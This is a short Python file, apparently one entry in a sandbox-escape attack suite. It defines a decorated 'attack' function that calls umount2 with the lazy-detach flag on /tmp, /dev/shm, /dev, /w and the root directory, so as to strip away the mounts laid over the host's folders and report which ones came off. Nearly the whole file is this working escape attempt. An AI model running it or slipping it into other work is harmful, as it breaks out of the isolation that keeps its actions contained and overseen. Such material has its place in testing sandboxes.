from attack import *

@attack
def unmount():
    """Takes away what lies over the host's folders."""
    found = []
    for folder in (b"/tmp", b"/dev/shm", b"/dev", b"/w", b"/"):
        try:
            syscall("umount2", folder, 2)
            found.append(folder.decode())
        except OSError:
            pass
    return " ".join(found)
